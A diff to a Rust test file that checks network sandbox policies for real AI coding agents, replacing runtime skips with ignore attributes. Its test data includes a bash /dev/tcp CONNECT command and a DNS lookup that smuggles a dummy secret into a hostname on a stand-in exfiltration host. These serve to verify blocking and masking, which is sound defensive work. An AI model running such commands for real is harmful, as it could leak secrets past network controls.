@@ -1,14 +1,10 @@
 //! Network policies, from the case to the record: the real agents can reach their models and nothing else.
-//!
-//! If a CLI is missing, its test is skipped with a message (`testkit::real`).
 
 #![allow(clippy::unwrap_used, clippy::print_stdout, reason = "a test that cannot go on fails")]
 
 use serde_json::{Value, json};
 use testkit::Project;
 use testkit::real::{CLAUDE_CODE, CODEX, OPENCODE, RealAgent, only_trial};
-
-use crate::hostile::refusal;
 
 const TRIALRUN: &str = env!("CARGO_BIN_EXE_trialrun");
 
@@ -17,10 +13,7 @@ const ASKS: &str = r#"bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; printf "CONNECT 
 
 /// Runs a real agent that can reach only its model, whose script calls `tool` with the command under `argument`.
 fn works_with_only_its_model(agent: RealAgent, tool: &str, argument: &str) {
-    if let Some(refusal) = refusal() {
-        return println!("isolated SKIPPED: {refusal}");
-    }
-    let Some(project) = agent.project(TRIALRUN, env!("CARGO_TARGET_TMPDIR"), "model-only") else { return };
+    let project = agent.project(TRIALRUN, env!("CARGO_TARGET_TMPDIR"));
     let input = json!({argument: ASKS, "description": "asks"});
     project.write("model.yaml", &format!("steps:\n  - tools: [{{name: {tool}, input: {input}}}]\n  - text: Done.\n"));
     project.write(
@@ -48,16 +41,28 @@ fn works_with_only_its_model(agent: RealAgent, tool: &str, argument: &str) {
 }
 
 #[test]
+#[cfg_attr(
+    not(all(has = "agents", has = "isolation")),
+    ignore = "needs the agent CLIs and a kernel that isolates processes; run scripts/test"
+)]
 fn the_real_claude_code_works_with_only_its_model() {
     works_with_only_its_model(CLAUDE_CODE, "Bash", "command");
 }
 
 #[test]
+#[cfg_attr(
+    not(all(has = "agents", has = "isolation")),
+    ignore = "needs the agent CLIs and a kernel that isolates processes; run scripts/test"
+)]
 fn the_real_codex_works_with_only_its_model() {
     works_with_only_its_model(CODEX, "exec_command", "cmd");
 }
 
 #[test]
+#[cfg_attr(
+    not(all(has = "agents", has = "isolation")),
+    ignore = "needs the agent CLIs and a kernel that isolates processes; run scripts/test"
+)]
 fn the_real_opencode_works_with_only_its_model() {
     works_with_only_its_model(OPENCODE, "bash", "command");
 }
@@ -82,10 +87,8 @@ fn run(project: &Project, arguments: &[&str], code: i32) -> Value {
 }
 
 #[test]
+#[cfg_attr(not(has = "isolation"), ignore = "needs a kernel that isolates processes; run scripts/test")]
 fn a_host_that_is_not_in_the_list_fails_the_assertions_and_is_shown() {
-    if let Some(refusal) = refusal() {
-        return println!("isolated SKIPPED: {refusal}");
-    }
     let assertions = "{id: none, type: no_egress}, {id: only, type: egress_only, hosts: ['*.example.org']}";
     let project = project(ASKS, "{network: {allow: ['*.example.org']}}", assertions);
     let trial = run(&project, &["--sandbox", "isolated"], 1);
@@ -99,10 +102,8 @@ fn a_host_that_is_not_in_the_list_fails_the_assertions_and_is_shown() {
 }
 
 #[test]
+#[cfg_attr(not(has = "isolation"), ignore = "needs a kernel that isolates processes; run scripts/test")]
 fn a_secret_in_the_name_of_a_host_is_masked() {
-    if let Some(refusal) = refusal() {
-        return println!("isolated SKIPPED: {refusal}");
-    }
     let asks = |host: &str| ASKS.replace("exfil.example", host);
     let script = format!("{}\ngetent hosts Dummy-Secret-1.dns.example", asks("Dummy-Secret-1.exfil.example"));
     let project = project(&script, "{network: model-only}", "{id: none, type: no_egress}");
@@ -114,10 +115,8 @@ fn a_secret_in_the_name_of_a_host_is_masked() {
 }
 
 #[test]
+#[cfg_attr(not(has = "isolation"), ignore = "needs a kernel that isolates processes; run scripts/test")]
 fn the_command_line_decides_before_the_case_and_the_case_before_the_project() {
-    if let Some(refusal) = refusal() {
-        return println!("isolated SKIPPED: {refusal}");
-    }
     let project = project("true", "{network: {allow: [example.com]}}", "{id: none, type: no_egress}");
     project.write("trialrun.yaml", "sandbox: {provider: isolated, network: none}\n");
     assert_eq!(run(&project, &[], 0)["network"], "allow=example.com");
